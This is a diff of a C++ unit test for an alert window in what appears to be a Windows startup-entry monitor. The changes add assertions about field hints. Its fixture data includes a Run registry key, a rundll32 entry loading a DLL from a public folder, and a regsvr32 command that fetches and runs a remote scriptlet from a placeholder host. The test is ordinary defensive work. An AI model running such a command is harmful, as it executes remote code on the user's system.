@@ -53,7 +53,8 @@ class AlertTest : public ::testing::Test, protected TFakeServices {
 
 TEST_F(AlertTest, ShowsTheNewestChangeWholeAndKeepsEveryOtherReachable) {
   EXPECT_EQ(Alert.Text(), texts::kAlertCaption);
-  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe"), Record(TChangeKind::Added, "B", "C:\\b.exe")});
+  Notify(
+      {Record(TChangeKind::Added, "A", "C:\\a.exe"), Record(TChangeKind::Added, "B", "C:\\b.exe")});
   EXPECT_TRUE(Alert.Visible());
   // The first would be replaced before anyone could see it: no window work for it.
   EXPECT_EQ(Shell.IconRequests, (std::vector<std::string>{"C:\\b.exe"}));
@@ -67,6 +68,9 @@ TEST_F(AlertTest, ShowsTheNewestChangeWholeAndKeepsEveryOtherReachable) {
   EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 2/2");
   EXPECT_TRUE(Alert.Button4->Visible());
   EXPECT_FALSE(Alert.Edit5->Visible());  // the data is the path: nothing more to show
+  // The whole key, hive and all, however narrow the field.
+  EXPECT_EQ(Alert.Edit2->Hint,
+            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
 
   // "<": the older change, every field from it.
   Alert.Button4->Click();
@@ -81,9 +85,11 @@ TEST_F(AlertTest, ShowsTheNewestChangeWholeAndKeepsEveryOtherReachable) {
                  "rundll32.exe C:\\Users\\Public\\x.dll,Start")});
   EXPECT_EQ(Alert.Text(), texts::kTitleDeleted);
   EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 4/4");
-  Notify({Record(TChangeKind::Added, "S", "regsvr32 ", "regsvr32 /s /i:http://host/x.sct scrobj.dll")});
+  Notify({Record(TChangeKind::Added, "S", "regsvr32 ",
+                 "regsvr32 /s /i:http://host/x.sct scrobj.dll")});
   EXPECT_TRUE(Alert.Edit5->Visible());
   EXPECT_EQ(Alert.Edit5->Text(), "regsvr32 /s /i:http://host/x.sct scrobj.dll");
+  EXPECT_EQ(Alert.Edit5->Hint, Alert.Edit5->Text());
   Alert.Button4->Click();
   Alert.Button4->Click();
   EXPECT_EQ(Alert.Edit3->Text(), ChangedLine("B", "C:\\b.exe", "C:\\c.exe"));
